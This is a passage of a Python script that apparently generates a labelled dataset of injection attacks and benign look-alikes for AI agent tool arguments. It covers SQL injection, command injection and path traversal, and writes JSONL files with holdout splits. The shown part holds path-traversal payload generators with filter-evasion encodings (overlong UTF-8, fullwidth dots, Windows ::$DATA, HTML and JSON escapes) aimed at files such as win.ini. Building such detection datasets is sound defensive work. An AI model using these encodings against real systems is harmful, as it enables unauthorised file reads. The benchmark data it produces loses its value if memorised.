    "php_filter_upper": lambda t, n, r: "PHP://FILTER/resource=" + "../" * n + t,
    "windows_upper": lambda t, n, r: "C:\\" + (t if t.startswith(("windows", "inetpub", "xampp")) else "windows/win.ini").upper().replace("/", "\\"),
    "windows_ads": lambda t, n, r: "..\\" * n + t.replace("/", "\\") + "::$DATA",
    "windows_trailing": lambda t, n, r: "..\\" * n + t.replace("/", "\\") + r.choice([".", " ", "...", "./"]),
    "mixed_prefix": lambda t, n, r: r.choice(["uploads\\", "static/", "img\\..\\"]) + "..\\/" * (n + 1) + t,
    "tilde_home": lambda t, n, r: "~/" + "../" * n + t,
    # two stacked: a form above, then one more encoding
    "url_backslash_mixed": lambda t, n, r: quote("".join(r.choice(["../", "..\\"]) for _ in range(n)) + t, safe=""),
    "double_overlong": lambda t, n, r: "%25c0%25ae%25c0%25ae%25c0%25af" * n + t,
    "html_dots": lambda t, n, r: "&#46;&#46;&#47;" * n + t,
    "json_escape": lambda t, n, r: "\\u002e\\u002e\\u002f" * n + t,
    "fullwidth_url": lambda t, n, r: quote("\uff0e\uff0e\uff0f" * n, safe="") + t,
    "nested_backslash": lambda t, n, r: "....\\\\" * n + t.replace("/", "\\"),
}


def generated(category: str, rng: random.Random, more: bool = False) -> Iterator[tuple[str, str]]:
    """
    The generated lines of C{category}: the first families, or with C{more}
    those of session 10.
    """
    if category == "sql_injection":
        transforms, bases = (SQL_TRANSFORMS_MORE, SQL_BASES_MORE) if more else (SQL_TRANSFORMS, SQL_BASES)
        for name, fn in transforms.items():
            for base in bases:
                yield f"generated:{name}", fn(base, rng)
    elif category == "command_injection":
        commands, pairs, separators, extra = (
            (CMD_TRANSFORMS_MORE, CMD_BASES_MORE, CMD_SEPARATORS_MORE, CMD_EXTRA_MORE) if more
            else (CMD_TRANSFORMS, CMD_BASES, CMD_SEPARATORS, CMD_EXTRA)
        )
        for name, cfn in commands.items():
            for cmd, arg in pairs:
                sepName, sep = rng.choice(list(separators.items()))
                yield f"generated:{name}+{sepName}", rng.choice(CMD_HOSTS) + _wrap(sep, cfn(cmd, arg, rng))
        for line in extra:
            yield "generated:interpreters_windows" + ("_more" if more else ""), rng.choice(CMD_HOSTS) + line
    else:
        paths, targets = (PATH_TRANSFORMS_MORE, PATH_TARGETS_MORE) if more else (PATH_TRANSFORMS, PATH_TARGETS)
        for name, pfn in paths.items():
            for target in rng.sample(targets, 10):
                yield f"generated:{name}", pfn(target, rng.randint(2, 8), rng)


# --- benign ------------------------------------------------------------------

WRITTEN_SQL_DATA = [
    "O'Brien", "Patrick O'Neil", "D'Angelo", "Rock 'n' Roll greatest hits", "'Tis the season", "5' 11\" tall", "O'Reilly -- 2nd edition",
    "AT&T", "C# or F#?", "Union Square, San Francisco", "select committee report", "How do I drop a column in postgres?",
    "order by date desc", "Is 1 = 1 in all cases? no", "Terms & Conditions (updated)", "She said \"yes\" -- and left",
    "the OR gate outputs true", "Tom & Jerry's", "don't delete the backup", "\"quoted\" search term", "1 or 2 bedrooms",
    "apples and oranges", "rock and roll", "SELECT tickets for the show", "update my address please", "insert coin to continue",
    "1/2\" drill bit", "What's new in SQL Server 2022?", "L'Oréal", "dinner at Mario's; 7pm", "size 10-12", "Q&A; notes",
    "group by team", "having fun", "null and void", "true or false quiz", "#hashtag -- trending", "it's 50% off; today only",
    "mom's recipe (2nd)", "where are my keys", "from A to B", "between 1 and 10", "drop-off point", "exec summary draft",
    "Table of contents", "char 42", "sleep schedule 10pm", "user's guide", "union-made jacket", "1=1 mapping",
]
WRITTEN_CMD_DATA = [
    "Build & deploy the site", "fix: handle `null` in parser", "Run `npm test` before pushing", "a | b | c", "yes; no; maybe",
    "cat videos compilation", "Who am I? A philosophy essay", "ping me when done", "id card renewal", "the sleep study",
    "R&D budget", "Tom && Jerry", "echo chamber effects", "$5 off coupon", "price: $(10 + 5)", "`code` in markdown",
    "run it in a sub-shell: (cd dir && make)", "chmod +x is needed for scripts", "Use curl to test the API", "`ls -la` shows hidden files",
    "Dear team; meeting moved to 3pm", "wget vs curl: which to use?", "my_file (1).txt", "notes & todo.md", "Q1|Q2|Q3 results",
    "bash tips and tricks", "python -c is handy for one-liners", "the `rm -rf` horror story", "SELECT * FROM dual; -- docs",
    "export PATH in .bashrc", "nc is netcat", "sudo make me a sandwich", "Press Ctrl+C; then retry", "cost: $HOME_PRICE",
    "1 & 2", "hello `world`", "a;b", "foo&&bar", "email me @ 5",
]
WRITTEN_PATHS = [
    "src/main.py", "./README.md", "docs/../README.md", "../shared/config.yaml", "tests/../src/app.ts", "/home/dev/project/src/index.js",
    "/Users/alice/code/api/server.go", "/workspace/app/package.json", "/tmp/build/output.log", "C:\\Users\\dev\\project\\main.cs",
    "D:/repos/site/index.html", "..", "../..", "../sibling-repo/README.md", "src/components/../hooks/useAuth.ts", "~/project/Makefile",
    "/var/lib/app/data.json", "/opt/homebrew/bin/python3", "node_modules/.bin/tsc", "assets/img/logo@2x.png", ".github/workflows/ci.yml",
    "etc/config.example.yaml", "config/passwords.example", "docs/security/passwd-policy.md", "/srv/app/current/public/index.html",
    "file.tar.gz", "report (final).pdf", "photos/2024/IMG_0001.JPG", "notes/../notes/today.md",
]
# Values an agent puts in arguments that carry data: hosts, files, ids,
# URLs, e-mail addresses, names.
WRITTEN_VALUES = [
    "db-01.internal", "api.example.com:8443", "10.0.0.12", "2001:db8::1", "my-bucket/reports/2024-q3.csv", "photo (1).png",
    "Tom & Jerry.mp4", "Simon & Garfunkel - The Boxer.mp3", "R&D budget.xlsx", "Q&A notes.md", "AT&T invoice.pdf",
    "https://example.com/search?q=shoes&size=10&color=red", "https://shop.example/cart;jsessionid=ABC123?x=1",
    "user+tag@example.com", "o'connor@example.ie", "feature/add-login", "release-2024.10", "v1.2.3", "sha256:3f2a9c",
    "report_final_v2.docx", "2024-10-01T12:00:00Z", "en-US", "Europe/Berlin", "order #1234", "SKU-88-A", "ACME Corp.",
    "São Paulo", "Zürich HB", "New York, NY", "+1 (555) 010-2030", "50%", "~/Downloads/invoice.pdf", "$HOME/project",
    "main.py:42", "README (copy).md", "a, b and c", "size: 10-12", "temp=21.5", "key=value", "x; y", "id 42",
]
WRITTEN_SQL_PROSE = [
    "Explain how 'OR 1=1' attacks work for our security training", "What does UNION SELECT do in SQL?",
    "The report says: user input like ' OR '1'='1 must be escaped", "Use parameterised queries instead of string concatenation",
    "DROP TABLE is irreversible; take a backup first", "select the rows where status is open and sort by date",
    "Please update the table of contents", "He said 'or else' -- and left", "Is it true or false?", "1 or 2 people, maybe more",
    "We met at Union Square; then went to the select bar", "Why does WHERE 1=1 appear in generated queries?",
]
TEXT_TOOLS = [("create_issue", "title"), ("git_commit", "message"), ("send_message", "text"), ("create_issue", "body"),
              ("web_search", "query"), ("chat", "message")]
GIT_RANGES = [
    "HEAD~3..HEAD", "main...feature/login", "v1.2.0..v1.3.0", "origin/main..HEAD", "HEAD^..HEAD", "abc123..def456", "@{u}..",
    "HEAD~10..HEAD~5", "release/2.0...main", "stable..next", "v2..v3 -- src/", "HEAD@{1}..HEAD",
]
PATH_TOOLS = [("read_file", "path"), ("open_file", "path"), ("get_document", "name"), ("list_directory", "path"), ("view_file", "file")]
SQL_DATA_TOOLS = [("search_products", "query"), ("get_user", "username"), ("create_ticket", "title"), ("lookup_order", "order_id"),
                  ("send_message", "text"), ("update_profile", "bio")]
CMD_DATA_TOOLS = [("ping_host", "host"), ("convert_file", "filename"), ("create_issue", "title"), ("git_commit", "message"),
                  ("dns_lookup", "domain"), ("send_message", "text")]


def paragraphs(markdown: str, n: int, rng: random.Random) -> list[str]:
    paras = []
    for block in re.split(r"\n\s*\n", re.sub(r"```.*?```", "", markdown, flags=re.S)):
        block = " ".join(x.strip() for x in block.splitlines()).strip()
        if 40 <= len(block) <= 600 and not block.startswith(("|", "<", "[!", "#")):
            paras.append(block)
    return sample(rng, paras, n)


def shellLines(text: str) -> Iterator[str]:
    for line in text.splitlines():
        s = line.strip()
        if not s or s.startswith("#") or len(s) < 8 or len(s) > 300:
            continue
        if s in ("fi", "done", "esac", "else", "then", "}", "{", ";;") or s.endswith(("\\", "{", "(")) or s.startswith(("}", ")")):
            continue
        yield s


def statements(sql: str) -> Iterator[str]:
    sql = re.sub(r"^\s*--.*$", "", sql, flags=re.M)
    for s in sql.split(";"):
        s = " ".join(s.split())
        if 10 <= len(s) <= 1500:
            yield s


def workspacePaths(m: Mirror, key: str, rng: random.Random, n: int) -> list[str]:
    roots = ["", "./", "/home/dev/", "/workspace/", "/Users/alice/src/", "src/../", "C:\\Users\\dev\\"]
    out = []
    for p in sample(rng, m.files(key), n):
        root = rng.choice(roots)
        out.append(root + (p.replace("/", "\\") if root.startswith("C:") else p))
    return out


def sqlBenign(m: Mirror, rng: random.Random) -> Iterator[tuple[str, str, str, str]]:
    fixtures = [p for p in m.files("sqlfluff", "test/fixtures/dialects/") if p.endswith(".sql")]
    for path in sample(rng, fixtures, 120):
        for s in sample(rng, statements(m.show("sqlfluff", path)), 2):
            yield "sqlfluff", "run_sql", "query", s
    for line in sample(rng, (unquote_plus(x).strip() for x in lines(m.show("libinjection", "data/false_positives.txt"), comments=True)), 180):
        tool, arg = rng.choice(SQL_DATA_TOOLS)
        yield "libinjection", tool, arg, line
    sakila = [p for p in m.files("sakila") if p.endswith(".sql") and "insert-data" not in p]
    for path in sakila:
        for s in sample(rng, statements(m.show("sakila", path)), 6):
            yield "sakila", "run_sql", "query", s
    insert = m.show("sakila", "mysql-sakila-db/mysql-sakila-insert-data.sql")
    values = [v for v in re.findall(r"'((?:[^'\\]|\\.|'')+)'", insert) if len(v) > 3 and not re.fullmatch(r"[\d\-: .]+", v)]
    for v in sample(rng, values, 120):
        tool, arg = rng.choice(SQL_DATA_TOOLS)
        yield "sakila", tool, arg, v.replace("''", "'")
    for text in WRITTEN_SQL_DATA:
        tool, arg = rng.choice(SQL_DATA_TOOLS)
        yield "written", tool, arg, text
    for text in WRITTEN_SQL_PROSE:
        tool, arg = rng.choice(TEXT_TOOLS)
        yield "written", tool, arg, text
    for para in paragraphs(m.show("sqlfluff", "README.md"), 30, rng) + paragraphs(m.show("sqlfluff", "CHANGELOG.md"), 40, rng):
        yield "sqlfluff", rng.choice(["create_issue", "send_message"]), rng.choice(["body", "text"]), para


def cmdBenign(m: Mirror, rng: random.Random) -> Iterator[tuple[str, str, str, str]]:
    for key, paths, n in (("nvm", ["nvm.sh", "install.sh", "test/common.sh"], 220), ("ohmyzsh", None, 160)):
        files = paths or [p for p in m.files(key) if p.endswith((".zsh", ".sh"))]
        pool = [s for p in files for s in shellLines(m.show(key, p))]
        for s in sample(rng, pool, n):
            yield key, "run_command", "command", s
        for s in sample(rng, m.subjects(key, 2000), 60):
            yield key, "git_commit", "message", s
        readme = m.show(key, "README.md")
        for para in paragraphs(readme, 40, rng):
            yield key, rng.choice(["create_issue", "send_message"]), rng.choice(["body", "text"]), para
    for text in WRITTEN_CMD_DATA:
        tool, arg = rng.choice(TEXT_TOOLS)
        yield "written", tool, arg, text
    for text in WRITTEN_VALUES:
        tool, arg = rng.choice(CMD_DATA_TOOLS[:2] + CMD_DATA_TOOLS[4:5] + PATH_TOOLS[:1] + SQL_DATA_TOOLS[1:2])
        yield "written", tool, arg, text


def pathBenign(m: Mirror, rng: random.Random) -> Iterator[tuple[str, str, str, str]]:
    for key, n in (("sqlfluff", 120), ("nvm", 100), ("ohmyzsh", 120), ("sakila", 20)):
        for p in workspacePaths(m, key, rng, n):
            tool, arg = rng.choice(PATH_TOOLS)
            yield key, tool, arg, p
    for p in WRITTEN_PATHS:
        tool, arg = rng.choice(PATH_TOOLS)
        yield "written", tool, arg, p
    for r in GIT_RANGES:
        yield "written", rng.choice(["git_log", "git_diff"]), "range", r
    for key in ("nvm", "ohmyzsh"):
        for p in sample(rng, m.files(key), 40):
            base = os.path.basename(p)
            yield key, "search_files", "pattern", rng.choice([f"**/{base}", f"{os.path.dirname(p) or '.'}/*", base])


# --- assembly ----------------------------------------------------------------

ATTACK_TOOLS = {
    "sql_injection": SQL_DATA_TOOLS[:2] + [("lookup_order", "order_id"), ("list_items", "sort"), ("filter_records", "category"),
                                           ("get_customer", "email")],
    "command_injection": [("ping_host", "host"), ("convert_file", "filename"), ("dns_lookup", "domain"), ("resize_image", "image"),
                          ("git_clone", "url"), ("backup", "name")],
    "path_traversal": PATH_TOOLS + [("render_template", "template"), ("download", "file")],
}


def build(mirror: Mirror) -> dict[str, list[dict[str, str]]]:
    out: dict[str, list[dict[str, str]]] = {}
    attackSources = {"sql_injection": sqlAttackSources, "command_injection": cmdAttackSources, "path_traversal": pathAttackSources}
    benignSources = {"sql_injection": sqlBenign, "command_injection": cmdBenign, "path_traversal": pathBenign}
    for category in attackSources:
        rng = random.Random(f"{SEED}:{category}:attacks")
        raw = list(attackSources[category](mirror, rng)) + list(generated(category, rng))
        held = {t: s for s, t in raw if s.split("+")[0] in HOLDOUT_SOURCES}
        rows, seen = [], set()
        for source, text in raw:
            text = _DESCRIBED.sub("", text)
            if text in seen or len(text) > 2000 or _COMMENT_LINE.match(text) or not _CARRIES[category].search(text):
                continue
            seen.add(text)
            tool, arg = rng.choice(ATTACK_TOOLS[category])
            if text in held:
                source = held[text]
            split = "holdout" if text in held else splitOf(category, text, source.split(":")[0])
            rows.append(dict(category=category, label="attack", tool=tool, argument=arg, text=text, direction="request",
                             source=source, split=split))
        rng = random.Random(f"{SEED}:{category}:attacks:more")
        for source, text in generated(category, rng, more=True):
            tool, arg = rng.choice(ATTACK_TOOLS[category])
            if text in seen or not _CARRIES[category].search(text):
                continue
            seen.add(text)
            rows.append(dict(category=category, label="attack", tool=tool, argument=arg, text=text, direction="request",
                             source=source, split="tune"))
        out[f"{category}.attacks.jsonl"] = rows
        rng = random.Random(f"{SEED}:{category}:benign")
        rows, seen = [], set()
        for source, tool, arg, text in benignSources[category](mirror, rng):
            if text in seen or not text.strip():
                continue
            seen.add(text)
            rows.append(dict(category=category, label="benign", tool=tool, argument=arg, text=text, direction="request",
                             source=source, split=splitOf(category, text, source)))
        out[f"{category}.benign.jsonl"] = rows
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--mirrors", default=MIRRORS, help="directory of owner+name/repo git mirrors")
    args = ap.parse_args()
    for name, rows in build(Mirror(args.mirrors)).items():
        with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
            for row in rows:
                f.write(json.dumps(row, ensure_ascii=False) + "\n")
        held = sum(r["split"] == "holdout" for r in rows)
        print(f"{name}: {len(rows)} lines, {held} held out")


if __name__ == "__main__":
    main()
